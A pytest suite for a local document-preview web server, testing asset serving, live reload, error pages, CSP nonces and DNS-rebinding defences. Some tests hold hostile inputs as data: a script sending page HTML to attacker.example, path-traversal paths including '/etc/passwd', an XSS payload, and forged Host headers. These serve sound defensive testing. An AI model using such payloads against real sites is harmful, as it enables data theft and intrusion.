from __future__ import annotations

import io
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pypdf
import pytest

from renderer.config import Config
from renderer.layouts import LAYOUTS_DIR
from renderer.preview import Preview
from tests.conftest import ROOT, SEED_SLUG, small_catalog

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


def make_preview(records: Path) -> Preview:
    return Preview(records, Config, say=lambda text: None)


def set_line(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_serves_only_layout_font_and_preview_files(tmp_path: Path):
    preview = make_preview(small_catalog(tmp_path))
    assert preview.asset("/layout/dossier.css").name == "dossier.css"
    assert preview.asset("/fonts/fonts.css").name == "fonts.css"
    assert preview.asset("/_preview/live.js").name == "live.js"
    for outside in (
        "/layout/../../pyproject.toml",
        "/layout/%2e%2e/%2e%2e/pyproject.toml",
        "/fonts/../renderer/cli.py",
        "/_preview/site.html.j2",
        "/etc/passwd",
        "/layout/",
    ):
        assert preview.asset(outside) is None, outside


def test_dossier_page_is_the_layout_html_at_the_fitted_scale(tmp_path: Path):
    preview = make_preview(small_catalog(tmp_path))
    view = preview.view(SEED_SLUG)
    assert view.pdf.startswith(b"%PDF") and len(pypdf.PdfReader(io.BytesIO(view.pdf)).pages) == 1
    page = preview.dossier_page(SEED_SLUG, view, "n0nce")
    assert f'style="--scale: {view.scale};' in page
    assert page.index('<base href="/layout/">') < page.index('href="dossier.css"')
    assert f'data-generation="{preview.snapshot.generation}"' in page
    assert 'href="/sdet"' in page  # a related specimen of the catalog opens its preview
    assert "https://specimens.example.org/sdet" in page  # as its printed URL still says
    assert preview.view(SEED_SLUG) is view  # nothing changed: not rendered again


def test_only_the_previews_own_script_may_run_on_a_dossier_page(tmp_path: Path):
    layout = tmp_path / "my-layout"
    shutil.copytree(LAYOUTS_DIR / "memo", layout)
    (layout / "steal.js").write_text(
        "location = 'https://attacker.example/?' + document.body.innerHTML"
    )
    set_line(layout / "dossier.html.j2", "</head>", '<script src="steal.js"></script></head>')
    preview = Preview(
        small_catalog(tmp_path), lambda: Config(layout=str(layout)), say=lambda text: None
    )
    page = preview.dossier_page(SEED_SLUG, preview.view(SEED_SLUG), "n0nce")
    scripts = re.findall(r"<script\b[^>]*>", page)
    assert len(scripts) == 2 and '<script src="steal.js">' in scripts
    assert [tag for tag in scripts if 'nonce="n0nce"' in tag] == [
        tag for tag in scripts if "/_preview/live.js" in tag
    ]
    generation = preview.snapshot.generation
    own = f'<script src="/_preview/live.js" nonce="n0nce" data-generation="{generation}" defer>'
    for page in (preview.index_page("n0nce"), preview.problems_page("x", [], "n0nce")):
        assert re.findall(r"<script\b[^>]*>", page) == [own]


def test_record_text_never_becomes_markup_on_any_page(tmp_path: Path):
    records = small_catalog(tmp_path)
    seed = records / f"{SEED_SLUG}.yaml"
    set_line(seed, "question: ", "question: <script>alert(1)</script> ")
    preview = make_preview(records)
    page = preview.dossier_page(SEED_SLUG, preview.view(SEED_SLUG), "n0nce")
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)" in page
    set_line(seed, "  match: 98", "  match: <b>98</b>")
    preview.refresh({seed})
    problems = preview.problems_page(SEED_SLUG, preview.view(SEED_SLUG).problems, "n0nce")
    assert "<b>98" not in problems and "&lt;b&gt;98" in problems
    assert "<b>98" not in preview.index_page("n0nce")


def test_problems_show_with_file_line_and_field(tmp_path: Path):
    records = small_catalog(tmp_path)
    seed = records / f"{SEED_SLUG}.yaml"
    set_line(seed, "  match: 98", "  match: 198")
    preview = make_preview(records)
    view = preview.view(SEED_SLUG)
    assert view.html is None
    line = seed.read_text().splitlines().index("  match: 198") + 1
    page = preview.problems_page(SEED_SLUG, view.problems, "n0nce")
    assert f"{seed}:{line}</code> related[0].match:" in page
    assert 'class="invalid"' in preview.index_page("n0nce")


def test_a_broken_layout_shows_on_every_page_until_fixed(tmp_path: Path):
    records = small_catalog(tmp_path)
    layout = tmp_path / "my-layout"
    shutil.copytree(LAYOUTS_DIR / "classified", layout)
    preview = Preview(records, lambda: Config(layout=str(layout)), say=lambda text: None)
    assert preview.view(SEED_SLUG).html is not None
    settings = layout / "layout.toml"
    settings.write_text("page_text = 3\n")
    preview.refresh({settings})
    view = preview.view(SEED_SLUG)
    assert view.html is None
    expected = f"{settings}: page_text: must be a whole number from 100 to 100000"
    assert [str(problem) for problem in view.problems] == [expected]
    assert "must be a whole number" in preview.index_page("n0nce")
    assert preview.asset("/layout/dossier.css") is None
    settings.write_text("page_text = 4200\n")
    preview.refresh({settings})
    assert preview.view(SEED_SLUG).html is not None


def test_a_change_wakes_the_waiting_pages(tmp_path: Path):
    records = small_catalog(tmp_path)
    preview = make_preview(records)
    shown = preview.snapshot.generation
    woken: list[str] = []
    waiter = threading.Thread(target=lambda: woken.append(preview.wait_for_change(shown, 10)))
    waiter.start()
    preview.refresh({records / "sdet.yaml"})
    waiter.join(5)
    assert woken == [preview.snapshot.generation] and woken[0] != shown
    assert preview.wait_for_change(woken[0], 0.05) == woken[0]  # no change: the timeout


def start_preview(records: Path, *args: str) -> tuple[subprocess.Popen, str]:
    """`dossier preview` in its own process on a free port; returns it and its URL."""
    process = subprocess.Popen(
        [sys.executable, "-m", "renderer", "preview", "--records", records, "--port", "0", *args],
        cwd=records.parent,
        env={**os.environ, "PYTHONPATH": str(ROOT)},  # this checkout's code, wherever it runs
        stderr=subprocess.PIPE,
        text=True,
        # Ctrl-C as in a terminal, even when these tests run where SIGINT is ignored (a shell's
        # background job): the child then keeps Python's own handler
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    line = process.stderr.readline()
    found = re.match(r"Previewing at (http://127\.0\.0\.1:\d+/\S*)", line)
    if not found:
        process.kill()
        pytest.fail(f"preview did not start: {line}{process.stderr.read()}")
    return process, found.group(1)


def stop_preview(process: subprocess.Popen, signum: int = signal.SIGTERM) -> str:
    process.send_signal(signum)
    _, errors = process.communicate(timeout=10)
    assert process.returncode == 0, errors
    return errors


def test_the_open_page_follows_edits_to_record_and_layout_in_chromium(tmp_path: Path):
    from playwright.sync_api import expect, sync_playwright

    assert CHROMIUM, "needs Debian's chromium: scripts/setup.sh test installs it"
    records = small_catalog(tmp_path)
    layout = tmp_path / "my-layout"
    shutil.copytree(LAYOUTS_DIR / "classified", layout)
    seed = records / f"{SEED_SLUG}.yaml"
    process, url = start_preview(records, SEED_SLUG, "--layout", layout)
    complaints: list[str] = []
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=CHROMIUM)
            page = browser.new_page()
            page.on("console", lambda message: complaints.append(message.text))
            page.on("requestfailed", lambda request: complaints.append(request.url))
            page.goto(url)
            question = page.locator(".question")
            expect(question).to_have_text(re.compile("OBSERVABILITY ADVOCATE ACTUALLY DO"))
            expect(page.locator("h1")).to_have_text("Staff AI/ML Observability Advocate")

            set_line(seed, "question: ", "question: Seriously, ")
            expect(question).to_have_text(re.compile("^Seriously, "), timeout=20_000)

            set_line(seed, "  match: 98", "  match: 198")
            problems = page.locator("#problems")
            expect(problems).to_contain_text(f"{seed.name}:", timeout=20_000)
            expect(problems).to_contain_text("related[0].match: input should be less than")

            set_line(seed, "  match: 198", "  match: 97")
            expect(page.locator(".related")).to_contain_text("System match: 97%", timeout=20_000)

            set_line(layout / "dossier.css", "h1 {", "h1 { color: rgb(0, 90, 0) !important;")
            expect(page.locator("h1")).to_have_css("color", "rgb(0, 90, 0)", timeout=20_000)

            response = page.request.get(url + ".pdf")
            assert response.headers["content-type"] == "application/pdf"
            pdf = pypdf.PdfReader(io.BytesIO(response.body()))
            assert len(pdf.pages) == 1
            assert "Seriously, WHAT DOES" in pdf.pages[0].extract_text()
            browser.close()
    finally:
        output = stop_preview(process) if process.poll() is None else ""
    # CSP violations show up as console errors, a missing font or stylesheet as a failed request;
    # the event stream is cut short, by design, each time the page reloads
    expected = ("/_preview/events", "status of 422 (Unprocessable Entity)")  # the problems page
    assert [text for text in complaints if not text.endswith(expected)] == []
    assert "related[0].match: input should be less than or equal to 100" in output
    assert output.rstrip().endswith("stopped")


def test_preview_of_an_unknown_record_suggests_names(tmp_path: Path):
    records = small_catalog(tmp_path)
    result = subprocess.run(
        [sys.executable, "-m", "renderer", "preview", "sdte", "--records", records],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert result.returncode == 1
    assert result.stderr == f"{records}: no record 'sdte' (did you mean 'sdet'?)\n"


def test_a_port_in_use_is_a_clear_error(tmp_path: Path):
    records = small_catalog(tmp_path)
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        result = subprocess.run(
            [
                sys.executable,
                "-m",
                "renderer",
                "preview",
                "--records",
                records,
                "--port",
                str(port),
            ],
            cwd=tmp_path,
            capture_output=True,
            text=True,
            timeout=30,
            env={**os.environ, "PYTHONWARNINGS": "error"},
        )
    assert result.returncode == 1
    assert f"cannot listen on 127.0.0.1:{port}: Address already in use" in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_stops_cleanly_on_ctrl_c_or_sigterm(tmp_path: Path, signum: int):
    process, url = start_preview(small_catalog(tmp_path))
    time.sleep(0.3)
    assert url.endswith("/")
    assert stop_preview(process, signum).rstrip().endswith("stopped")


def test_without_watchfiles_it_says_which_extra_to_install(tmp_path: Path, monkeypatch):
    from click.testing import CliRunner

    from renderer.cli import main

    monkeypatch.setitem(sys.modules, "watchfiles", None)  # as if it were not installed
    result = CliRunner().invoke(main, ["preview", "--records", str(small_catalog(tmp_path))])
    assert result.exit_code == 1
    assert result.stderr == "dossier preview: needs watchfiles: pip install 'dossier[preview]'\n"


def test_a_config_that_names_another_layout_has_that_layout_watched(tmp_path: Path):
    import urllib.request

    records = small_catalog(tmp_path)
    for name in ("first", "second"):
        shutil.copytree(LAYOUTS_DIR / "memo", tmp_path / name)
    config = tmp_path / "dossier.toml"
    config.write_text(f'layout = "{tmp_path / "first"}"\n')
    process, url = start_preview(records, "--config", config)

    def generation() -> str:
        with urllib.request.urlopen(url + SEED_SLUG, timeout=20) as response:
            return re.search(r'data-generation="([^"]+)"', response.read().decode()).group(1)

    def changes_after(edit) -> bool:
        before = generation()
        edit()
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            if generation() != before:
                return True
            time.sleep(0.2)
        return False

    try:
        assert changes_after(lambda: config.write_text(f'layout = "{tmp_path / "second"}"\n'))
        css = tmp_path / "second" / "memo.css"
        assert changes_after(lambda: css.write_text(css.read_text() + "\nh1 { color: red; }\n"))
    finally:
        stop_preview(process)


def test_a_config_saved_by_rename_is_read_again_every_time(tmp_path: Path):
    """Editors write a new file and rename it over the old one: each such save counts."""
    import urllib.request

    records = small_catalog(tmp_path)
    config = tmp_path / "dossier.toml"
    config.write_text('classification = "FIRST"\n')
    process, url = start_preview(records, "--config", config)

    def shows(text: str) -> bool:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            with urllib.request.urlopen(url + SEED_SLUG, timeout=20) as response:
                if text in response.read().decode():
                    return True
            time.sleep(0.2)
        return False

    def save_by_rename(text: str) -> None:
        fresh = tmp_path / ".dossier.toml.swp"
        fresh.write_text(f'classification = "{text}"\n')
        fresh.replace(config)

    try:
        assert shows("FIRST")
        for text in ("SECOND", "THIRD"):
            save_by_rename(text)
            assert shows(text), f"the save of {text} was not noticed"
        config.unlink()
        save_by_rename("FOURTH")  # deleted, then made again
        assert shows("FOURTH")
    finally:
        stop_preview(process)


def raw_request(url: str, request_line: bytes, host: bytes | None) -> tuple[int, bytes]:
    """A request as sent by hand (no client library fixes it up): the status and the body."""
    headers = b"" if host is None else b"Host: " + host + b"\r\n"
    if len(request_line) > 65536:
        # http.server reads 65537 bytes of a request line, answers 414 and closes; bytes it
        # never read would make the close a reset that can lose the answer: send no more
        request = request_line[:65537]
    else:
        request = request_line + b"\r\n" + headers + b"Connection: close\r\n\r\n"
    port = int(re.search(r":(\d+)/", url).group(1))
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        connection.sendall(request)
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
    head, _, body = answer.partition(b"\r\n\r\n")
    return int(head.split(b" ")[1]), body


def test_answers_only_to_its_own_name_and_well_formed_paths(tmp_path: Path):
    """DNS rebinding: a page whose domain points at 127.0.0.1 sends its own name as Host."""
    process, url = start_preview(small_catalog(tmp_path))
    port = url.split(":")[2].rstrip("/").encode()
    here = b"127.0.0.1:" + port
    refused = b"this preview answers only to 127.0.0.1:%s and localhost:%s\n" % (port, port)
    cases = [
        (b"GET / HTTP/1.1", here, 200, b"<!DOCTYPE html>"),
        (b"GET /layout/dossier.css HTTP/1.1", b"localhost:" + port, 200, b"/*"),
        (b"GET / HTTP/1.1", b"attacker.example", 421, refused),
        (b"GET /sdet.pdf HTTP/1.1", b"attacker.example:" + port, 421, refused),
        (b"GET /sdet.pdf HTTP/1.1", b"127.0.0.1", 421, refused),
        (b"GET / HTTP/1.0", None, 421, refused),
        (b"GET /%00 HTTP/1.1", here, 400, b"the path holds a control character\n"),
        (b"GET /layout/a%00.css HTTP/1.1", here, 400, b"the path holds a control character\n"),
        (b"GET /layout/%zz HTTP/1.1", here, 400, b"% in a path must be followed by two hex"),
        (b"GET /layout/%ff%fe HTTP/1.1", here, 400, b"the path is not UTF-8 text\n"),
        (b"GET /\xff HTTP/1.1", here, 400, b"a path is ASCII text, other characters percent"),
        (b"GET /layout/" + b"a" * 2000 + b" HTTP/1.1", here, 414, b"the path is longer than 2000"),
        (b"GET /layout/" + b"a" * 70_000, here, 414, b"<!DOCTYPE HTML>"),  # http.server's own
        (b"GET /layout/" + b"a" * 1900 + b" HTTP/1.1", here, 404, b"not found\n"),
        (b"GET http://[::1 HTTP/1.1", here, 400, b"not a path\n"),
        (b"GET /layout/" + b"%2e%2e/" * 3 + b"pyproject.toml HTTP/1.1", here, 404, b"not found\n"),
    ]
    try:
        answers = [raw_request(url, line, host) for line, host, _, _ in cases]
    finally:
        errors = stop_preview(process)
    for (line, host, status, body), (got_status, got_body) in zip(cases, answers, strict=True):
        assert (got_status, got_body.startswith(body)) == (status, True), (line[:40], host)
    assert "Traceback" not in errors and "Error" not in errors, errors


def test_every_page_gets_its_own_script_nonce(tmp_path: Path):
    import urllib.request

    process, url = start_preview(small_catalog(tmp_path))
    try:
        nonces = []
        for _ in range(2):
            with urllib.request.urlopen(url, timeout=20) as response:
                policy = response.headers["Content-Security-Policy"]
                nonce = re.search(r"script-src 'nonce-([A-Za-z0-9_-]{22})';", policy).group(1)
                assert f'src="/_preview/live.js" nonce="{nonce}"' in response.read().decode()
                nonces.append(nonce)
    finally:
        stop_preview(process)
    assert nonces[0] != nonces[1]
